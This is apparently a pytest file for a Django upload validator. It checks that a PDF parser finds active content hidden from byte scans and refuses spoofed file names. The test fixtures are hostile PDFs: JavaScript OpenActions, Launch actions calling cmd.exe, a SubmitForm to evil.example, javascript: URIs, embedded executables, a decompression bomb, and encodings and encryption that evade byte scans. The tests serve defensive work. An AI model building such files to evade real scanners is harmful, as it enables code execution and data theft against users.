"""Uploads judged by their structure: active PDFs however hidden, and names that lie.

Every hostile PDF here is written byte by byte (``tests/pdfs.py``) with one technique that
hides its active content from a byte scan: name escapes, comments between tokens, object
streams under each filter, incremental updates, objects no cross-reference lists,
encryption. ``core.pdf_content`` parses the file and must find the content anyway; what it
cannot parse is refused. A file's name must say what its content is.
"""

from __future__ import annotations

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from policywindow.applications.models import Material
from policywindow.core import files, pdf_content
from tests import pdfs

from .payloads import stored_files
from .test_filing_uploads import draft  # noqa: F401  the fixture

JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ALL = ("pdf", "docx", "xlsx", "jpg", "png")
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64


def check(name: str, content: bytes) -> str:
    return files.check_file(SimpleUploadedFile(name, content), allowed_types=ALL, max_size_mb=20)


def refusal(name: str, content: bytes) -> str:
    with pytest.raises(ValidationError) as refused:
        check(name, content)
    return refused.value.messages[0]


def annotation(action: bytes, subtype: bytes = b"/Link") -> bytes:
    """The page with one annotation carrying ``action`` (``/A <<…>>`` and the like)."""
    return pdfs.page_with(
        b"/Annots [<< /Type /Annot /Subtype " + subtype + b" /Rect [0 0 10 10] " + action + b" >>]"
    )


OPEN_JS = {1: pdfs.catalog_with(b"/OpenAction " + JS)}
HOSTILE = {
    "open-action-javascript": (pdfs.document(OPEN_JS), {"JavaScript", "OpenAction"}),
    "document-javascript-name-tree": (
        pdfs.document(
            {1: pdfs.catalog_with(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>"), 4: JS}
        ),
        {"JavaScript"},
    ),
    "name-escapes": (
        pdfs.document({1: pdfs.catalog_with(b"/#4FpenAction << /S /#4A#61vaScript /J#53 (x) >>")}),
        {"JavaScript", "OpenAction"},
    ),
    "comments-between-tokens": (
        pdfs.document({3: annotation(b"/A%c\n<</S%c\n/Launch/F%c\n(cmd.exe)>>")}),
        {"Launch"},
    ),
    "action-type-by-reference": (
        pdfs.document({3: annotation(b"/A << /S 4 0 R /JS (x) >>"), 4: b"/JavaScript"}),
        {"JavaScript"},
    ),
    "incremental-update-adds-javascript": (
        pdfs.updated(pdfs.minimal(), {1: pdfs.catalog_with(b"/OpenAction 4 0 R"), 4: JS}),
        {"JavaScript", "OpenAction"},
    ),
    "earlier-revision-holds-javascript": (
        pdfs.updated(
            pdfs.document({1: pdfs.catalog_with(b"/OpenAction 4 0 R"), 4: JS}),
            {1: pdfs.CATALOG},
        ),
        {"JavaScript", "OpenAction"},
    ),
    "object-no-cross-reference-lists": (
        pdfs.minimal() + b"9 0 %hidden\nobj << /S /Launch /F (cmd.exe) >> endobj\n",
        {"Launch"},
    ),
    "launch-on-a-link": (
        pdfs.document({3: annotation(b"/A << /S /Launch /F (x.exe) >>")}),
        {"Launch"},
    ),
    "page-additional-actions": (
        pdfs.document({3: pdfs.page_with(b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>")}),
        {"AA"},
    ),
    "form-field-additional-actions": (
        pdfs.document(
            {
                1: pdfs.catalog_with(b"/AcroForm << /Fields [5 0 R] >>"),
                5: b"<< /FT /Tx /T (amount) /AA << /K 6 0 R >> >>",
                6: JS,
            }
        ),
        {"AA", "JavaScript"},
    ),
    "submit-form": (
        pdfs.document(
            {3: annotation(b"/A << /S /SubmitForm /F (http://evil.example/) >>", b"/Widget")}
        ),
        {"SubmitForm"},
    ),
    "import-data": (
        pdfs.document({3: annotation(b"/A << /S /ImportData /F (data.fdf) >>")}),
        {"ImportData"},
    ),
    "go-to-remote": (
        pdfs.document({3: annotation(b"/A << /S /GoToR /F (other.pdf) /D [0 /Fit] >>")}),
        {"GoToR"},
    ),
    "go-to-embedded": (
        pdfs.document({3: annotation(b"/A << /S /GoToE /T << /R /C /N (x) >> >>")}),
        {"GoToE"},
    ),
    "rich-media": (pdfs.document({3: annotation(b"", b"/RichMedia")}), {"RichMedia"}),
    "embedded-files-tree": (pdfs.with_attachment(pdfs.minimal()), {"EmbeddedFile"}),
    "file-attachment-annotation": (
        pdfs.document(
            {
                3: annotation(
                    b"/FS << /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>", b"/FileAttachment"
                ),
                7: b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
            }
        ),
        {"EmbeddedFile"},
    ),
    "xfa-form": (
        pdfs.document({1: pdfs.catalog_with(b"/AcroForm << /Fields [] /XFA 5 0 R >>"), 5: b"(x)"}),
        {"XFA"},
    ),
    "open-action-prints": (
        pdfs.document({1: pdfs.catalog_with(b"/OpenAction << /S /Named /N /Print >>")}),
        {"OpenAction"},
    ),
    "javascript-uri": (
        pdfs.document({3: annotation(b"/A << /S /URI /URI ( JavaScript:alert\\(1\\)) >>")}),
        {"JavaScript"},
    ),
    "javascript-uri-as-hex": (
        pdfs.document(
            {3: annotation(b"/A << /S /URI /URI <" + b"javascript:x".hex().encode() + b"> >>")}
        ),
        {"JavaScript"},
    ),
    "encrypted-without-open-password": (
        pdfs.encrypted(pdfs.document(OPEN_JS), user_password=""),
        {"JavaScript", "OpenAction"},
    ),
    "encrypted-javascript-uri": (
        pdfs.encrypted(
            pdfs.document({3: annotation(b"/A << /S /URI /URI (javascript:alert\\(1\\)) >>")}),
            user_password="",
        ),
        {"JavaScript"},
    ),
    **{
        f"object-stream-{'-'.join(f.strip('/') for f in chain)}": (
            pdfs.packed(OPEN_JS, filters=chain),
            {"JavaScript", "OpenAction"},
        )
        for chain in (
            ("/FlateDecode",),
            ("/ASCIIHexDecode", "/FlateDecode"),
            ("/ASCII85Decode",),
            ("/RunLengthDecode",),
            ("/ASCII85Decode", "/FlateDecode"),
        )
    },
}


@pytest.mark.parametrize(("content", "expected"), HOSTILE.values(), ids=HOSTILE.keys())
def test_active_content_is_found_in_the_parsed_structure(content, expected):
    assert expected <= set(pdf_content.active_content(content))
    message = refusal("申报书.pdf", content)
    assert "含有脚本或自动执行的动作" in message
    assert all(found in message for found in expected), message


@pytest.mark.parametrize(
    ("key", "names"),
    [
        ("name-escapes", (b"/JavaScript", b"/JS ", b"/OpenAction")),
        ("object-stream-FlateDecode", (b"/JavaScript", b"/JS ", b"/OpenAction")),
        ("object-stream-ASCIIHexDecode-FlateDecode", (b"/JavaScript", b"/OpenAction")),
        ("encrypted-javascript-uri", (b"javascript", b"JavaScript")),
    ],
)
def test_the_hidden_ones_are_invisible_to_a_byte_scan(key, names):
    """The point of these files: what a byte scan looks for is not in their bytes."""
    content, _ = HOSTILE[key]
    assert not any(name in content for name in names)


def damaged_object_stream() -> bytes:
    data = pdfs.packed(OPEN_JS)
    start = data.index(b"stream\n") + len(b"stream\n")
    return data[:start] + b"\x00garbage" + data[start + 8 :]


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (pdfs.encrypted(pdfs.minimal(), user_password="secret"), "已加密"),
        (pdfs.encrypted(pdfs.minimal(), user_password="secret", algorithm="AES-256"), "已加密"),
        (b"%PDF-1.7\n garbage", "已损坏"),
        (
            b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n",
            "已损坏",
        ),  # no xref, no trailer
        (pdfs.minimal()[:120], "已损坏"),  # truncated
        (pdfs.document({1: b"<< /Pages 2 0 R >>"})[:-40], "已损坏"),
        (damaged_object_stream(), "已损坏"),
    ],
    ids=[
        "open-password",
        "open-password-aes256",
        "garbage",
        "no-trailer",
        "truncated",
        "cut-before-its-trailer",
        "undecodable-object-stream",
    ],
)
def test_what_cannot_be_parsed_is_refused(content, reason):
    message = refusal("扫描件.pdf", content)
    assert reason in message and "出于安全原因不予接收" in message


def test_an_object_stream_that_inflates_beyond_the_limit_is_refused():
    bomb = pdfs.packed({**OPEN_JS, 4: b"(" + b"A" * (pdf_content.MAX_INFLATED + 1) + b")"})
    assert len(bomb) < pdf_content.MAX_INFLATED // 100
    assert "解压后过大" in refusal("扫描件.pdf", bomb)


def test_too_many_objects_are_refused(monkeypatch):
    monkeypatch.setattr(pdf_content, "MAX_OBJECTS", 50)
    many = pdfs.document({n: b"<< /Type /Annot /Subtype /Text >>" for n in range(4, 60)})
    assert "对象过多" in refusal("扫描件.pdf", many)


ORDINARY = {
    "one-page": pdfs.minimal(),
    "opens-at-a-page": pdfs.document({1: pdfs.catalog_with(b"/OpenAction [3 0 R /Fit]")}),
    "opens-with-a-go-to": pdfs.document(
        {1: pdfs.catalog_with(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")}
    ),
    "web-link": pdfs.document({3: annotation(b"/A << /S /URI /URI (https://example.org/) >>")}),
    "object-stream": pdfs.packed({1: pdfs.CATALOG, 3: pdfs.PAGE}),
    "incremental-update": pdfs.updated(pdfs.minimal(), {3: pdfs.page_with(b"/Rotate 90")}),
    "permissions-only-encryption": pdfs.encrypted(pdfs.minimal(), user_password=""),
    "permissions-only-rc4": pdfs.encrypted(pdfs.minimal(), user_password="", algorithm="RC4-128"),
    # A page that shows PDF syntax as text: a header inside a stream is not an object.
    "pdf-syntax-as-page-text": pdfs.document(
        {
            3: pdfs.page_with(b"/Contents 4 0 R"),
            4: b"<< /Length 45 >>\nstream\nBT (5 0 obj << /S /JavaScript >> endobj) Tj ET\nendstream",
        }
    ),
}


@pytest.mark.parametrize("content", ORDINARY.values(), ids=ORDINARY.keys())
def test_ordinary_pdfs_are_accepted(content):
    assert pdf_content.active_content(content) == []
    assert check("申报书.pdf", content) == "pdf"


def test_a_weasyprint_pdf_with_links_is_accepted():
    from weasyprint import HTML

    html = "<h1 style='font-family: DejaVu Sans'>Fund form</h1><a href='https://example.org'>x</a>"
    assert check("审批表.pdf", HTML(string=html).write_pdf()) == "pdf"


# ---------------------------------------------------------------- names that lie


@pytest.mark.parametrize(
    "name",
    [
        "营业执照.html",
        "营业执照.exe",
        "营业执照",
        "营业执照.pdf.html",
        "营业执照.jpg",
        "营业执照.svg",
    ],
)
def test_a_pdf_is_accepted_only_under_a_pdf_name(name):
    message = refusal(name, pdfs.minimal())
    assert "PDF 文件的扩展名应为 .pdf" in message
    assert "允许的扩展名：.pdf、.docx、.xlsx、.jpg、.jpeg、.png" in message
    named = "没有扩展名" if "." not in name else f"扩展名是 .{name.rsplit('.', 1)[1]}"
    assert named in message


def test_names_of_the_content_type_are_accepted_in_any_case():
    assert check("营业执照.PDF", pdfs.minimal()) == "pdf"
    assert check("照片.jpeg", JPEG) == check("照片.JPG", JPEG) == "jpg"
    assert "扩展名是 .png，但内容不是 PNG 文件（实际为 JPG 文件）" in refusal("照片.png", JPEG)


def test_the_api_refuses_a_pdf_named_html_and_stores_nothing(draft, login):  # noqa: F811
    member, application = draft
    response = login(member).post(
        f"/api/v1/applications/{application.pk}/materials",
        {"item": "evidence", "files": [SimpleUploadedFile("营业执照.pdf.html", pdfs.minimal())]},
    )
    assert response.status_code == 400
    message = response.json()["details"]["evidence"][0]
    assert "内容是 PDF 文件，但扩展名是 .html" in message
    assert stored_files() == [] and not Material.objects.exists()
